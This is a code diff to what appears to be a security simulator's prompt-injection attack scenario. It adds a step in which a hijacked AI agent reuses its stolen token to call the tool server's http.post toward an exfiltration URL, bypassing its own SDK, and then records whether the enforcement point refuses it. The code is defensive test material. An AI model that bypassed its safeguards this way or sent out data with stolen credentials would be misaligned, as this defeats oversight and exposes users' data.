@@ -13,6 +13,9 @@ import uuid
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass
 
+import httpx
+
+from soar.enforce.client import ToolDenied, call_tool
 from soar.sdk.client import AgentQuarantined, SoarAgent
 from soar.sim import corpus
 from soar.sim.behaviours import Actor, Say
@@ -37,6 +40,7 @@ class AttackContext:
     exfil_delay_s: float
     contain_timeout_s: float
     api_url: str | None
+    tool_server_url: str | None = None  # the enforcement point; the injected agent's exfiltration goes there
 
 
 async def _step(
@@ -68,6 +72,7 @@ async def injection(ctx: AttackContext) -> AttackReport:
     report = AttackReport(attack="injection", victim=agent.agent_id)
     start = time.time()
     cred = actor.credential_id
+    stolen = agent.tokens.get(cred) if cred is not None else None  # a hijacked agent keeps its token string
     with agent.task(f"research-{uuid.uuid4().hex[:8]}"):
         call = await _step(
             report,
@@ -93,7 +98,18 @@ async def injection(ctx: AttackContext) -> AttackReport:
             lambda: agent.tool_call("http.post", args, credential_id=cred),
             malicious=True,
         )
-        if exfil is None:
+        if ctx.tool_server_url and stolen:
+            # The hijacked agent goes straight to the tool server, whatever its own SDK says: only the
+            # enforcement point (authorize on every call) can stop it.
+            try:
+                async with httpx.AsyncClient(timeout=5.0) as http:
+                    await call_tool(http, ctx.tool_server_url, stolen, "http.post", corpus.EXFIL_URL, "post", args)
+            except ToolDenied as e:
+                report.blocked_by = f"enforcement point ({e.reason})"
+                report.notes.append(f"tool server refused http.post: {e.reason}")
+            except httpx.HTTPError as e:
+                report.notes.append(f"tool server unreachable: {e}")
+        elif exfil is None:
             report.blocked_by = "quarantine"
         elif cred is not None and cred in agent.revoked:
             report.blocked_by = "credential revoked"
